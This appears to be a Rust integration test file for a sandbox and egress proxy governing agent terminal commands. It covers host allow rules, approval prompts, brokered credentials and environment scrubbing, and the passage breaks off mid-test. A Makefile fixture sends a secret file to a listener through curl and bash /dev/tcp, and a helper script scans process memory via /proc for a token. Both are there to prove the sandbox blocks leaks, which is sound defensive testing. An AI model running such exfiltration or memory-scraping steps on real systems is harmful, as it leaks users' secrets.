//! `[network]` end to end through the real binary: terminal_exec commands get
//! the egress proxy, each connection is a `network.connect` event, unlisted
//! hosts are denied (or asked) with the rule to add.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::io::{Read as _, Write as _};
use std::path::Path;

use common::Home;
use serde_json::{Value, json};

fn invoke(home: &Home, ws: &Path, approve: &str, command: &str) -> Vec<Value> {
    let out = home
        .capstan()
        .args([
            "invoke",
            "terminal_exec",
            "--json",
            "--approve",
            approve,
            "--workspace",
        ])
        .arg(ws)
        .args(["--input", &json!({ "command": command }).to_string()])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

fn of_type<'a>(events: &'a [Value], t: &str) -> Vec<&'a Value> {
    events.iter().filter(|e| e["type"] == t).collect()
}

/// A one-answer-per-connection HTTP server on 127.0.0.1; returns its port.
fn server() -> u16 {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { return };
            let mut buf = [0u8; 4096];
            let _ = s.read(&mut buf);
            let _ = s.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nhello\n",
            );
        }
    });
    port
}

#[test]
fn a_network_policy_lets_commands_reach_allowed_hosts_only_and_every_connection_is_an_event() {
    let p = server();
    let other = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    other.set_nonblocking(true).unwrap();
    let q = other.local_addr().unwrap().port();
    // 127.0.0.1 is loopback: only an address rule lets it through.
    let home = Home::new(&format!(
        "[policy]\nprofile = \"trusted\"\n\n[network]\nallow = [\"127.0.0.1:{p}\"]\n"
    ));
    let ws = tempfile::tempdir().unwrap();

    // Allowed: runs without asking (trusted; the proxy decides), one event.
    let events = invoke(
        &home,
        ws.path(),
        "none",
        &format!("curl -sS -f -m 20 http://127.0.0.1:{p}/"),
    );
    assert!(
        of_type(&events, "approval.requested").is_empty(),
        "{events:?}"
    );
    let step = of_type(&events, "terminal.step");
    assert_eq!(step.len(), 1, "{events:?}");
    assert_eq!(step[0]["exit_code"], 0, "{events:?}");
    assert!(step[0]["output_tail"].as_str().unwrap().contains("hello"));
    let conns = of_type(&events, "network.connect");
    assert_eq!(conns.len(), 1, "{events:?}");
    assert_eq!(conns[0]["host"], "127.0.0.1");
    assert_eq!(conns[0]["port"], p);
    assert_eq!(conns[0]["verdict"], "allowed");
    assert_eq!(conns[0]["rule"], format!("127.0.0.1:{p}"));
    assert!(conns[0]["bytes_down"].as_u64().unwrap() > 0);

    // Not allowed: refused with the rule to add; the host saw nothing.
    let events = invoke(
        &home,
        ws.path(),
        "none",
        &format!("curl -sS -f -m 20 http://127.0.0.1:{q}/"),
    );
    let step = of_type(&events, "terminal.step");
    assert_ne!(step[0]["exit_code"], 0, "{events:?}");
    let conns = of_type(&events, "network.connect");
    assert_eq!(conns.len(), 1, "{events:?}");
    assert_eq!(conns[0]["verdict"], "denied");
    assert!(
        conns[0]["reason"]
            .as_str()
            .unwrap()
            .contains(&format!("add \"127.0.0.1:{q}\" to [network] allow")),
        "{conns:?}"
    );
    assert!(other.accept().is_err(), "a denied host was reached");
}

#[test]
fn an_unlisted_host_asks_and_approve_none_denies_naming_the_rule() {
    let p = server();
    let home = Home::new("[policy]\nprofile = \"trusted\"\n\n[network]\nask = true\n");
    let ws = tempfile::tempdir().unwrap();
    let events = invoke(
        &home,
        ws.path(),
        "none",
        &format!("curl -sS -m 20 http://127.0.0.1:{p}/"),
    );
    let asked = of_type(&events, "approval.requested");
    assert_eq!(asked.len(), 1, "{events:?}");
    assert_eq!(asked[0]["action"], "network.connect");
    assert_eq!(asked[0]["command"], format!("connect 127.0.0.1:{p}"));
    let conns = of_type(&events, "network.connect");
    assert_eq!(conns.len(), 1, "{events:?}");
    assert_eq!(conns[0]["verdict"], "denied");
    assert_eq!(conns[0]["decided_by"], "person");
    assert!(
        conns[0]["reason"]
            .as_str()
            .unwrap()
            .contains(&format!("add \"127.0.0.1:{p}\"")),
        "{conns:?}"
    );
    let step = of_type(&events, "terminal.step");
    assert!(
        step[0]["output_tail"]
            .as_str()
            .unwrap()
            .contains("denied when asked"),
        "{step:?}"
    );
}

/// `invoke` with `--approve ask`, the person's answers on stdin.
fn invoke_answering(home: &Home, ws: &Path, command: &str, answers: &str) -> Vec<Value> {
    let mut child = home
        .capstan()
        .args([
            "invoke",
            "terminal_exec",
            "--json",
            "--approve",
            "ask",
            "--workspace",
        ])
        .arg(ws)
        .args(["--input", &json!({ "command": command }).to_string()])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Kept open until the run ends: end of input would deny.
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(answers.as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    drop(stdin);
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

#[test]
fn always_for_this_workspace_writes_the_rule_and_the_next_run_needs_no_approval() {
    let p = server();
    let rule = format!("127.0.0.1:{p}");
    let config = "# my settings, kept as written\n[policy]\nprofile = \"trusted\"\n\n\
                  [network]\nask = true   # ask me about new hosts\n";
    let home = Home::new(config);
    let file = home.path().join("config/capstan.toml");
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path().canonicalize().unwrap();
    let command = format!("curl -sS -f -m 20 http://127.0.0.1:{p}/");

    // The person answers "always for this workspace" (w).
    let events = invoke_answering(&home, ws.path(), &command, "w\n");
    let asked = of_type(&events, "approval.requested");
    assert_eq!(asked.len(), 1, "{events:?}");
    assert_eq!(asked[0]["action"], "network.connect");
    assert_eq!(asked[0]["always"], rule.as_str(), "{asked:?}");
    let decided = of_type(&events, "approval.decided");
    assert_eq!(decided[0]["decision"], "approved-always", "{events:?}");
    assert_eq!(decided[0]["by"], "user");
    let step = of_type(&events, "terminal.step");
    assert_eq!(step[0]["exit_code"], 0, "{events:?}");
    assert!(step[0]["output_tail"].as_str().unwrap().contains("hello"));
    let conns = of_type(&events, "network.connect");
    assert_eq!(conns[0]["verdict"], "allowed", "{conns:?}");
    assert_eq!(conns[0]["decided_by"], "person");
    assert_eq!(conns[0]["rule"], rule.as_str());
    let written: Vec<_> = of_type(&events, "activity")
        .into_iter()
        .filter(|e| e["kind"] == "network.rule_written")
        .collect();
    assert_eq!(written.len(), 1, "{events:?}");
    assert!(
        written[0]["message"]
            .as_str()
            .unwrap()
            .contains(&file.display().to_string()),
        "{written:?}"
    );

    // The user's file has the rule under the workspace, its text kept.
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(text.starts_with(config), "{text}");
    assert!(
        text.contains(&format!(
            "[network.workspace.\"{}\"]\nallow = [\"{rule}\"]",
            root.display()
        )),
        "{text}"
    );
    // Nothing in the workspace was written.
    assert!(!ws.path().join("capstan.toml").exists());

    // A new process reads it: no approval, allowed by the policy.
    let events = invoke(&home, ws.path(), "none", &command);
    assert!(
        of_type(&events, "approval.requested").is_empty(),
        "{events:?}"
    );
    let step = of_type(&events, "terminal.step");
    assert_eq!(step[0]["exit_code"], 0, "{events:?}");
    let conns = of_type(&events, "network.connect");
    assert_eq!(conns[0]["verdict"], "allowed", "{conns:?}");
    assert_eq!(conns[0]["decided_by"], "policy");
    assert_eq!(conns[0]["rule"], rule.as_str());

    // Another workspace is not covered: it still asks.
    let other = tempfile::tempdir().unwrap();
    let events = invoke(&home, other.path(), "none", &command);
    assert_eq!(
        of_type(&events, "approval.requested").len(),
        1,
        "{events:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_agui_interrupt_offers_always_for_this_workspace_and_resuming_with_it_writes_the_rule() {
    let p = server();
    let rule = format!("127.0.0.1:{p}");
    let home = Home::new(
        "[policy]\nprofile = \"trusted\"\n\n[network]\nask = true\n\n\
         [network.workspace.\"/elsewhere\"]\nallow = [\"example.org\"]\n",
    );
    let file = home.path().join("config/capstan.toml");
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path().canonicalize().unwrap();
    let server = common::server::Server::start(&home, &["-w", root.to_str().unwrap()]);
    let forwarded = json!({"workspace": root});
    let events = server
        .agui(
            json!({"threadId": "t-always", "runId": "r1", "forwardedProps": forwarded,
               "messages": [{"id": "m1", "role": "user",
                   "content": format!("run `curl -sS -f -m 20 http://127.0.0.1:{p}/`")}]}),
        )
        .await;
    let finished = events.last().unwrap();
    assert_eq!(finished["type"], "RUN_FINISHED", "{events:?}");
    assert_eq!(finished["outcome"]["type"], "interrupt", "{finished}");
    let interrupt = &finished["outcome"]["interrupts"][0];
    assert_eq!(interrupt["metadata"]["capstan"]["always"], rule.as_str());
    let answers = &interrupt["responseSchema"]["properties"]["decision"]["enum"];
    assert!(
        answers
            .as_array()
            .unwrap()
            .contains(&json!("approved-always")),
        "{interrupt}"
    );
    let id = interrupt["id"].as_str().unwrap();

    let events = server
        .agui(
            json!({"threadId": "t-always", "runId": "r2", "forwardedProps": forwarded,
               "resume": [{"interruptId": id, "status": "resolved",
                           "payload": {"decision": "approved-always"}}]}),
        )
        .await;
    let finished = events.last().unwrap();
    assert_eq!(finished["outcome"]["type"], "success", "{events:?}");
    let raw: Vec<&Value> = events
        .iter()
        .filter(|e| e["type"] == "RAW")
        .map(|e| &e["event"])
        .collect();
    assert!(
        raw.iter()
            .any(|e| e["type"] == "approval.decided" && e["decision"] == "approved-always"),
        "{raw:?}"
    );
    assert!(
        raw.iter().any(|e| e["type"] == "network.connect"
            && e["verdict"] == "allowed"
            && e["rule"] == rule.as_str()),
        "{raw:?}"
    );
    // Added under this workspace's own entry; the other entry is untouched.
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(
        text.contains("[network.workspace.\"/elsewhere\"]\nallow = [\"example.org\"]\n"),
        "{text}"
    );
    assert!(
        text.contains(&format!(
            "[network.workspace.\"{}\"]\nallow = [\"{rule}\"]",
            root.display()
        )),
        "{text}"
    );
}

#[test]
fn a_bad_network_rule_stops_capstan_with_the_rule_and_its_fix() {
    let home = Home::new("[network]\nallow = [\"https://crates.io\"]\n");
    let ws = tempfile::tempdir().unwrap();
    let out = home
        .capstan()
        .args([
            "invoke",
            "terminal_exec",
            "--json",
            "--approve",
            "none",
            "--workspace",
        ])
        .arg(ws.path())
        .args(["--input", &json!({ "command": "true" }).to_string()])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("[network]") && err.contains("not a URL"),
        "{err}"
    );
}

/// The secret of the brokered-credential test, in two halves: the scanner
/// that looks for it in the sandbox's memory gets them apart, so the whole
/// value is never in the sandbox because of the test itself.
const SECRET_A: &str = "ghp_netwire-";
const SECRET_B: &str = "S3CRET-0123456789abcdef";

/// An HTTPS server (python) on 127.0.0.1 with a certificate for `localhost`
/// signed by a test CA (openssl). It appends each request's Authorization
/// header to `log` and answers with it in the body (`auth=<value>`).
struct HttpsUpstream {
    child: std::process::Child,
    port: u16,
    ca: std::path::PathBuf,
    log: std::path::PathBuf,
    _dir: tempfile::TempDir,
}

impl Drop for HttpsUpstream {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn sh(dir: &Path, script: &str) {
    let out = std::process::Command::new("bash")
        .args(["-euc", script])
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{script}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn https_upstream() -> HttpsUpstream {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    sh(
        d,
        "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout ca.key \
         -out ca.pem -days 2 -subj /CN=netwire-test-ca \
         -addext basicConstraints=critical,CA:TRUE -addext keyUsage=critical,keyCertSign 2>/dev/null
         openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout leaf.key \
         -out leaf.csr -subj /CN=localhost 2>/dev/null
         printf 'subjectAltName=DNS:localhost\\nbasicConstraints=CA:FALSE\\nextendedKeyUsage=serverAuth\\n' > ext
         openssl x509 -req -in leaf.csr -CA ca.pem -CAkey ca.key -CAcreateserial -out leaf.pem \
         -days 2 -extfile ext 2>/dev/null",
    );
    std::fs::write(
        d.join("server.py"),
        r#"import http.server, ssl, sys
cert, key, log = sys.argv[1:4]
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        auth = self.headers.get("Authorization", "")
        with open(log, "a") as f:
            f.write(auth + "\n")
        body = ("auth=" + auth + "\n").encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
print(srv.server_address[1], flush=True)
srv.serve_forever()
"#,
    )
    .unwrap();
    let log = d.join("auth.log");
    let mut child = std::process::Command::new("python3")
        .arg(d.join("server.py"))
        .arg(d.join("leaf.pem"))
        .arg(d.join("leaf.key"))
        .arg(&log)
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(child.stdout.take().unwrap()),
        &mut line,
    )
    .unwrap();
    HttpsUpstream {
        child,
        port: line.trim().parse().unwrap(),
        ca: d.join("ca.pem"),
        log,
        _dir: dir,
    }
}

/// Run inside the sandbox: fetches the URL itself (so its memory has handled
/// the brokered exchange), then reads every readable mapping of every process
/// it can see through /proc/<pid>/mem and counts where the two halves of the
/// secret stand next to each other. `control` is the same search for a string
/// this script builds at run time: it shows the scan finds what is there.
const MEMSCAN: &str = r#"import os, sys, urllib.request
a, b, url = sys.argv[1].encode(), sys.argv[2].encode(), sys.argv[3]
body = urllib.request.urlopen(url, timeout=20).read()
control_text = (sys.argv[1] + "CONTROL").encode()
def count(data, tail):
    n, i = 0, data.find(a)
    while i >= 0:
        if data[i + len(a):i + len(a) + len(tail)] == tail:
            n += 1
        i = data.find(a, i + 1)
    return n
hits = control = scanned = procs = 0
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        continue
    procs += 1
    for line in maps:
        addr, perms = line.split()[:2]
        if not perms.startswith("r"):
            continue
        lo, hi = (int(x, 16) for x in addr.split("-"))
        try:
            mem.seek(lo)
            data = mem.read(hi - lo)
        except (OSError, ValueError, OverflowError):
            continue
        scanned += len(data)
        hits += count(data, b)
        control += count(data, b"CONTROL")
print(f"python got {len(body)} bytes; memscan procs={procs} bytes={scanned} hits={hits} control={control}")
"#;

#[test]
fn a_brokered_credential_reaches_the_host_and_never_the_sandbox() {
    let up = https_upstream();
    let p = up.port;
    let secret = format!("Bearer {SECRET_A}{SECRET_B}");
    let home = Home::new(&format!(
        "[policy]\nprofile = \"trusted\"\n\n[network]\nallow = [\"localhost:{p}\", \"127.0.0.1:{p}\"]\n\
         upstream_ca = [\"{}\"]\n\n[[network.credential]]\nhost = \"localhost\"\nport = {p}\n\
         header = \"Authorization\"\nvalue_env = \"NETWIRE_TOKEN\"\n",
        up.ca.display()
    ));
    let ws = tempfile::tempdir().unwrap();
    std::fs::write(ws.path().join("memscan.py"), MEMSCAN).unwrap();
    let data = home.dirs().data;
    let url = format!("https://localhost:{p}/");
    let script = format!(
        "curl -sS -m 20 -H 'Authorization: Bearer forged-by-the-command' {url}; echo curl=$?\n\
         env > env.txt\n\
         tr '\\0' '\\n' < /proc/self/environ > environ.txt\n\
         if cat {data}/egress-ca/*/ca-key.pem > /dev/null 2>&1; then echo ca-key=readable; else echo ca-key=hidden; fi\n\
         python3 memscan.py {SECRET_A} {SECRET_B} {url}\n",
        data = data.display()
    );
    std::fs::write(ws.path().join("check.sh"), &script).unwrap();

    let out = home
        .capstan()
        .env("NETWIRE_TOKEN", &secret)
        .args([
            "invoke",
            "terminal_exec",
            "--json",
            "--approve",
            "all",
            "--workspace",
        ])
        .arg(ws.path())
        .args([
            "--input",
            &json!({ "command": "bash check.sh" }).to_string(),
        ])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    let events: Vec<Value> = stdout
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let step = of_type(&events, "terminal.step");
    assert_eq!(step.len(), 1, "{events:?} {stderr}");
    let shown = step[0]["output_tail"].as_str().unwrap();

    // The host got the credential (twice: curl, then python), and not the
    // header the command forged.
    let log = std::fs::read_to_string(&up.log).unwrap_or_default();
    assert_eq!(
        log.lines().collect::<Vec<_>>(),
        vec![secret.as_str(), secret.as_str()],
        "{shown}"
    );
    assert!(shown.contains("curl=0"), "{shown}");
    // The host echoed it: what the command received, and Capstan shows, is masked.
    assert!(
        shown.contains(&format!("auth={}", "*".repeat(secret.len()))),
        "{shown}"
    );
    assert!(shown.contains("ca-key=hidden"), "{shown}");
    let scan = shown
        .lines()
        .find(|l| l.contains("memscan"))
        .unwrap_or_else(|| panic!("no memscan line: {shown}"));
    assert!(scan.contains(" hits=0 "), "{scan}");
    assert!(
        !scan.contains(" control=0"),
        "the scan found nothing at all: {scan}"
    );
    assert!(!scan.contains("procs=0 "), "{scan}");

    // Neither the environment, /proc/self/environ nor any file in the
    // workspace holds it; the trust variables are there.
    let env = std::fs::read_to_string(ws.path().join("env.txt")).unwrap();
    for var in [
        "SSL_CERT_FILE",
        "NODE_EXTRA_CA_CERTS",
        "REQUESTS_CA_BUNDLE",
        "CURL_CA_BUNDLE",
        "GIT_SSL_CAINFO",
        "CARGO_HTTP_CAINFO",
    ] {
        assert!(env.contains(&format!("{var}=")), "{var} missing: {env}");
    }
    assert!(!env.contains("NETWIRE_TOKEN"), "{env}");
    // (check.sh names the two halves apart, for the memory scan.)
    let whole = format!("{SECRET_A}{SECRET_B}");
    for entry in std::fs::read_dir(ws.path()).unwrap() {
        let path = entry.unwrap().path();
        let bytes = std::fs::read(&path).unwrap();
        assert!(
            !String::from_utf8_lossy(&bytes).contains(&whole),
            "{} holds the secret",
            path.display()
        );
    }
    assert!(ws.path().join("environ.txt").exists());
    // Nor anything Capstan printed (events, the record of the connection).
    assert!(!stdout.contains(&whole) && !stderr.contains(&whole));
    let conns = of_type(&events, "network.connect");
    assert!(
        conns.iter().any(|c| c["credential"] == "Authorization"),
        "{conns:?}"
    );
    // The CA's key stays in Capstan's data dir, readable by its owner only.
    let keys: Vec<_> = std::fs::read_dir(data.join("egress-ca"))
        .unwrap()
        .map(|e| e.unwrap().path().join("ca-key.pem"))
        .collect();
    assert_eq!(keys.len(), 1);
    use std::os::unix::fs::PermissionsExt as _;
    let mode = std::fs::metadata(&keys[0]).unwrap().permissions().mode();
    assert_eq!(mode & 0o077, 0, "{mode:o}");
}

/// `capstan invoke terminal_exec COMMAND` (nobody to approve) in `ws`: its
/// stdout and stderr together, and whether a command ran (a `terminal.step`).
fn invoke_text(
    capstan: &mut std::process::Command,
    ws: &std::path::Path,
    command: &str,
) -> (String, bool) {
    let out = capstan
        .args([
            "invoke",
            "terminal_exec",
            "--json",
            "--approve",
            "none",
            "--workspace",
        ])
        .arg(ws)
        .args(["--input", &json!({ "command": command }).to_string()])
        .output()
        .unwrap();
    let ran = String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .any(|e| e["type"] == "terminal.step");
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    (all, ran)
}

#[test]
fn a_missing_credential_variable_stops_the_command_naming_the_credential() {
    let home = Home::new(
        "[policy]\nprofile = \"trusted\"\n\n[network]\nallow = [\"api.example.com\"]\n\n\
         [[network.credential]]\nhost = \"api.example.com\"\nheader = \"Authorization\"\n\
         value_env = \"NETWIRE_UNSET_TOKEN\"\n",
    );
    let ws = tempfile::tempdir().unwrap();
    // Granted the network (trusted, through the proxy): the proxy that would
    // inject the credential cannot start, so nothing runs.
    let (all, ran) = invoke_text(
        home.capstan().env_remove("NETWIRE_UNSET_TOKEN"),
        ws.path(),
        "curl -sS https://api.example.com/",
    );
    assert!(!ran, "the command ran without its credential: {all}");
    assert!(
        all.contains("host = \\\"api.example.com\\\"")
            || all.contains("host = \"api.example.com\""),
        "{all}"
    );
    assert!(all.contains("NETWIRE_UNSET_TOKEN is not set"), "{all}");
    // A command not granted the network gets no proxy and no credential, so
    // the missing variable does not stop it (issue #41's grants).
    let (all, ran) = invoke_text(
        home.capstan().env_remove("NETWIRE_UNSET_TOKEN"),
        ws.path(),
        "echo ran",
    );
    assert!(ran, "{all}");
    assert!(!all.contains("NETWIRE_UNSET_TOKEN"), "{all}");
}

#[test]
fn a_workspace_capstan_toml_cannot_name_a_secret() {
    let home = Home::new("[policy]\nprofile = \"trusted\"\n");
    let ws = tempfile::tempdir().unwrap();
    std::fs::write(
        ws.path().join("capstan.toml"),
        "[[network.credential]]\nhost = \"api.github.com\"\nheader = \"Authorization\"\nvalue_env = \"GITHUB_TOKEN\"\n",
    )
    .unwrap();
    let (all, ran) = invoke_text(&mut home.capstan(), ws.path(), "echo ran");
    assert!(all.contains("cannot supply or name a secret"), "{all}");
    assert!(
        !ran,
        "a command ran under a workspace file naming a secret: {all}"
    );
}

/// A minimal stdio MCP server (python) that writes its whole environment to
/// the file its first argument names, then answers initialize and
/// tools/list with one tool.
const ENV_SERVER: &str = r#"import json, os, sys
with open(sys.argv[1], "w") as f:
    json.dump(dict(os.environ), f)
for line in sys.stdin:
    msg = json.loads(line)
    if "id" not in msg:
        continue
    m = msg.get("method")
    if m == "initialize":
        result = {"protocolVersion": msg["params"]["protocolVersion"],
                  "capabilities": {"tools": {}},
                  "serverInfo": {"name": "envy", "version": "0"}}
    elif m == "tools/list":
        result = {"tools": [{"name": "noop", "description": "does nothing",
                             "inputSchema": {"type": "object"}}]}
    else:
        result = {}
    print(json.dumps({"jsonrpc": "2.0", "id": msg["id"], "result": result}), flush=True)
"#;

#[test]
fn an_mcp_command_server_gets_a_scrubbed_environment_and_plugins_list_says_how_it_runs() {
    let dir = tempfile::tempdir().unwrap();
    let script = dir.path().join("server.py");
    std::fs::write(&script, ENV_SERVER).unwrap();
    let (seen, seen_off) = (dir.path().join("env.json"), dir.path().join("env-off.json"));
    let entry = |name: &str, out: &Path, extra: &str| {
        format!(
            "[[mcp_server]]\nname = \"{name}\"\ncommand = \"/usr/bin/python3\"\nargs = [{:?}, {:?}]\n\
             env = {{ LOG_LEVEL = \"warn\", PASSED = \"$NETWIRE_PASSED\" }}\nrisk = \"read_only\"\n{extra}\n",
            script.display().to_string(),
            out.display().to_string()
        )
    };
    let home = Home::new(&format!(
        "{}{}",
        // Sandboxed: it writes its report into the workspace it may write.
        entry("envy", &seen, "workspace = \"write\""),
        entry("loose", &seen_off, "sandbox = false")
    ));
    let out = home
        .capstan()
        .env("ANTHROPIC_API_KEY", "sk-ant-netwire-must-not-leak")
        .env("OPENAI_API_KEY", "sk-netwire-must-not-leak")
        .env("NETWIRE_PASSED", "passed-on")
        .args(["plugins", "list", "--json", "--workspace"])
        .arg(dir.path())
        .output()
        .unwrap();
    let listed: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{e}: {}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    let servers = listed["mcp_servers"].as_array().unwrap();
    let by_name = |n: &str| servers.iter().find(|s| s["name"] == n).unwrap().clone();
    assert_eq!(by_name("envy")["status"], "ok", "{listed}");
    assert!(
        by_name("loose")["sandbox"]
            .as_str()
            .unwrap()
            .contains("sandbox = false"),
        "{listed}"
    );
    assert!(
        !by_name("envy")["sandbox"]
            .as_str()
            .unwrap()
            .contains("sandbox = false"),
        "{listed}"
    );
    for file in [&seen, &seen_off] {
        let env: serde_json::Map<String, Value> =
            serde_json::from_str(&std::fs::read_to_string(file).unwrap()).unwrap();
        let mut names: Vec<&str> = env.keys().map(String::as_str).collect();
        names.sort();
        // Only PATH, LANG (when Capstan has it), HOME and the entry's own
        // (sandboxed: the sandbox's fixed LC_ALL, TERM and TMPDIR too).
        for n in &names {
            assert!(
                [
                    "PATH",
                    "LANG",
                    "HOME",
                    "LOG_LEVEL",
                    "PASSED",
                    "LC_CTYPE",
                    "LC_ALL",
                    "TERM",
                    "TMPDIR"
                ]
                .contains(n),
                "{n} reached the server: {names:?}"
            );
        }
        assert!(!env.contains_key("ANTHROPIC_API_KEY"), "{names:?}");
        assert!(!env.contains_key("CAPSTAN_HOME"), "{names:?}");
        assert_eq!(env["PASSED"], "passed-on");
        assert_eq!(env["LOG_LEVEL"], "warn");
        let server_home = env["HOME"].as_str().unwrap();
        assert_ne!(Path::new(server_home), home.path());
        assert!(
            std::env::var("HOME").map_or(true, |h| h != server_home),
            "the server got the user's HOME"
        );
    }
}

#[test]
fn sandbox_check_reports_the_egress_proxy_and_credential_hosts_never_values() {
    let home = Home::new(
        "[network]\nallow = [\"api.example.com\"]\npresets = [\"cargo\"]\n\n\
         [[network.credential]]\nhost = \"api.example.com\"\nheader = \"Authorization\"\n\
         value_env = \"NETWIRE_CHECK_TOKEN\"\n",
    );
    let value = "netwire-check-value-0123456789";
    let out = home
        .capstan()
        .env("NETWIRE_CHECK_TOKEN", value)
        .args(["sandbox", "check"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("egress proxy"), "{text}");
    assert!(text.contains("presets: cargo"), "{text}");
    assert!(
        text.contains("api.example.com:443 (Authorization, from $NETWIRE_CHECK_TOKEN): set"),
        "{text}"
    );
    assert!(text.contains("enforcement:  possible"), "{text}");
    assert!(!text.contains(value), "{text}");
    assert!(out.status.success(), "{text}");

    // A credential that cannot be read makes the check fail, naming it.
    let out = home
        .capstan()
        .env_remove("NETWIRE_CHECK_TOKEN")
        .args(["sandbox", "check", "--json"])
        .output()
        .unwrap();
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["network"]["policy_loaded"], true, "{report}");
    assert_eq!(report["network"]["credentials_ready"], false, "{report}");
    assert!(
        report["network"]["credentials"][0]
            .as_str()
            .unwrap()
            .contains("NOT READABLE"),
        "{report}"
    );
    assert!(!out.status.success());
}

/// A listener on 127.0.0.1 that counts the connections it accepts.
fn counting_listener() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    use std::sync::atomic::{AtomicUsize, Ordering};
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let seen = std::sync::Arc::new(AtomicUsize::new(0));
    let count = seen.clone();
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { return };
            count.fetch_add(1, Ordering::SeqCst);
            let mut buf = [0u8; 4096];
            let _ = s.read(&mut buf);
            let _ = s.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n",
            );
        }
    });
    (port, seen)
}

/// A workspace with a secret and a Makefile whose targets try to send it to
/// `port` (curl, and bash's /dev/tcp) or write a file.
fn exfil_workspace(port: u16) -> tempfile::TempDir {
    let ws = tempfile::tempdir().unwrap();
    std::fs::write(ws.path().join("secret.txt"), "the-workspace-secret\n").unwrap();
    std::fs::write(
        ws.path().join("Makefile"),
        format!(
            "SHELL := /bin/bash\n\
             exfil:\n\
             \t-curl -sS -m 10 --data-binary @secret.txt http://127.0.0.1:{port}/\n\
             \t-bash -c 'cat secret.txt > /dev/tcp/127.0.0.1/{port}'\n\
             \tfalse\n"
        ),
    )
    .unwrap();
    ws
}

/// The grant a command's `terminal.step` says it ran under.
fn grant_of(events: &[Value]) -> Value {
    let steps = of_type(events, "terminal.step");
    assert_eq!(steps.len(), 1, "one command ran: {events:?}");
    steps[0]["grant"].clone()
}

/// The grants model (issue #41): with the network allowed by the user, the
/// network goes only to a command granted it. `make` runs unasked under
/// `trusted` as a write, so its Makefile may write the workspace but reaches
/// no host, through the egress proxy or the host's own network; the same
/// host is reached by a command granted the network (the positive control,
/// so the listener is known to be reachable).
#[test]
fn with_the_network_allowed_no_command_nobody_granted_it_reaches_a_host() {
    use std::sync::atomic::Ordering;
    let (port, seen) = counting_listener();
    for network in [
        format!("[network]\nallow = [\"127.0.0.1:{port}\"]\n"),
        "[policy]\nnetwork = true\n".to_string(),
    ] {
        let config = if network.starts_with("[policy]") {
            "[policy]\nprofile = \"trusted\"\nnetwork = true\n".to_string()
        } else {
            format!("[policy]\nprofile = \"trusted\"\n\n{network}")
        };
        let home = Home::new(&config);
        let ws = exfil_workspace(port);
        seen.store(0, Ordering::SeqCst);

        // A read-only command: nothing granted.
        let events = invoke(&home, ws.path(), "none", "cat secret.txt");
        assert_eq!(
            grant_of(&events),
            json!({"source": "none", "write": false, "network": false}),
            "{config}"
        );

        // `make` runs as a write by the profile's standing rule: no network.
        let events = invoke(&home, ws.path(), "none", "make -s exfil");
        assert!(
            of_type(&events, "approval.requested").is_empty(),
            "{config}: {events:?}"
        );
        assert_eq!(
            grant_of(&events),
            json!({"source": "profile", "write": true, "network": false}),
            "{config}"
        );
        let step = &of_type(&events, "terminal.step")[0];
        assert_ne!(step["exit_code"], 0, "{events:?}");
        assert!(
